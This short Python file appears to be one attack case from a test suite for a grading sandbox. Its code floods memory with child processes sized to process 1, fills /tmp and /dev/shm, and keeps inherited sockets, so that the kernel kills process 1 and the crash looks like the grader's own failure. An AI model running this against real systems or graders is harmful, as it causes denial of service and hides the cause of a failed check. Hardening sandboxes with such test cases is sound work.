# attack: flooding-memory-of-process-one  expect: memory_limit|slot_crashed  alone: slot_error
"""Let the kernel kill process 1 for want of memory, which would look like a failure of the grader's.

Small programs, each a little smaller than process 1, put themselves behind it on the kernel's list of victims, and take
together all that there is. The slot's own process, as large as process 1, becomes one of them and keeps the socket.
"""

import os
import subprocess
import sys

SMALL = """
import ctypes, os, sys, time
ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
try:
    open("/proc/self/oom_score_adj", "w").write("0")
except OSError:
    pass
pages = int(open("/proc/1/statm").read().split()[1]) * 4096
kept, end = [], time.monotonic() + 3
while sum(map(len, kept)) < 0.8 * pages - (12 << 20) and time.monotonic() < end:
    kept.append(b"x" * (4 << 20))
    time.sleep(0.01)
if sys.argv[1] == "leader":
    for folder in ("/tmp", "/dev/shm"):
        try:
            open(folder + "/more", "wb").write(bytes(60 << 20))
        except OSError:
            pass
    time.sleep(2)
    os._exit(0)
time.sleep(600)
"""
COMMAND = [sys.executable, "-I", "-S", "-c", SMALL]


def attack(honest, *arguments):
    try:
        for number in range(14):
            subprocess.Popen([*COMMAND, "follower"])
    except OSError:
        pass
    for place in range(3, 256):
        try:
            os.set_inheritable(place, True)
        except OSError:
            break
    os.execv(sys.executable, [*COMMAND, "leader"])
